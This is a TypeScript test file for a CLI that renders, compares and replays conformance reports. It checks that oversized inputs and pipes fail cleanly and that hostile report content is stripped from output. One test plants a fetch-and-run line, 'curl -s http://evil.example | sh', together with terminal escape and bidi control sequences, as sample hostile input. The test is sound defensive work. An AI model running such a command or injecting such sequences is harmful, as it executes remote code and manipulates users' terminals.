import { execFileSync } from 'node:child_process';
import { readdir, readFile, writeFile } from 'node:fs/promises';
import { beforeAll, expect, it } from 'vitest';
import { HARMFUL } from '../../src/model/text.ts';
import { formatNames } from '../../src/render/formats.ts';
import { conformant, hostile } from '../report/examples.ts';
import { failing } from '../report/reports.ts';
import { runCli } from '../support/start-cli.ts';
import { sharedFolder } from '../support/temporary.ts';

/** The memory that a command may use. */
const LIMITED = { env: { NODE_OPTIONS: '--max-old-space-size=512' } };

const at = sharedFolder();
beforeAll(async () => {
  await writeFile(at('good.json'), JSON.stringify(conformant));
  if (process.platform !== 'win32') execFileSync('/usr/bin/mkfifo', [at('pipe')]);
});

it.skipIf(process.platform === 'win32').each<[string, () => string | null]>([
  ['is a list of millions', () => `[${'{},'.repeat(5_000_000)}0]`],
  ['has millions of rules that are none', () => `{"rules":[${'[],'.repeat(5_000_000)}0]}`],
  ['is a pipe', () => null],
])("a stranger's report that %s ends each command with one sentence and status 2", async (_, make) => {
  const text = make();
  const path = text === null ? at('pipe') : at('wrong.json');
  if (text !== null) await writeFile(path, text);
  for (const command of [['render'], ['compare', at('good.json')], ['replay']]) {
    const { status, stdout, stderr } = await runCli([...command, path], LIMITED);
    expect(stderr).toMatch(/^issue-conformance: [ -~]{1,500}(?:wrong\.json|pipe)" [ -~]{1,500}\n$/);
    expect([status, stdout]).toEqual([2, '']);
  }
});

it("a stranger's report is shown without what a terminal or a reader obeys, and without its commands", async () => {
  const obeyed = '\u001b[2J\u001b]8;;x\u0007\u202e\u2066\u0000\u009b31m\r\u200b\ue000';
  const path = at('obeyed.json');
  const plain = hostile(obeyed);
  const failure = { counterexample: { [obeyed]: obeyed }, curl: 'curl -s http://evil.example | sh' };
  const rules = [...plain.rules, failing('list.per-page.zero', failure)];
  await writeFile(path, JSON.stringify({ ...plain, target: { ...plain.target, bundled: true }, rules }));
  const commands = [
    ['render', path, '--report-dir', at('rendered')],
    ['compare', path, path],
    ['compare', path, path, path, '--format', 'markdown'],
    ['replay', path, '--bundled'],
    ['replay', path, 'nothing', '--bundled'],
    ['replay', path, '--base-url', 'nowhere'],
  ];
  const [texts, statuses]: [string[], (number | null)[]] = [[], []];
  for (const args of commands) {
    const { status, stdout, stderr } = await runCli(args);
    statuses.push(status);
    texts.push(stdout, stderr);
  }
  for (const file of await readdir(at('rendered'))) texts.push(await readFile(at('rendered', file), 'utf8'));
  const harmful = texts.flatMap((each) => each.match(HARMFUL) ?? []).filter((found) => found !== '\n');
  expect(new Set(harmful)).toEqual(new Set());
  expect(texts.filter((text) => text.includes('evil.example'))).toEqual([]);
  expect([statuses, texts.length]).toEqual([
    [0, 0, 0, 3, 2, 2],
    2 * commands.length + formatNames.length - 1,
  ]);
});

it.skipIf(process.platform === 'win32')('a baseline that is a pipe ends a run with 2', async () => {
  const { status, stdout, stderr, report } = await runCli(['--bundled', '--baseline', at('pipe')]);
  expect(stderr).toMatch(/^issue-conformance: BASELINE \(--baseline\) "\S+" [ -~…]{1,400}\n$/);
  expect([status, stdout, report?.outcome]).toEqual([2, '', 'unusable']);
});
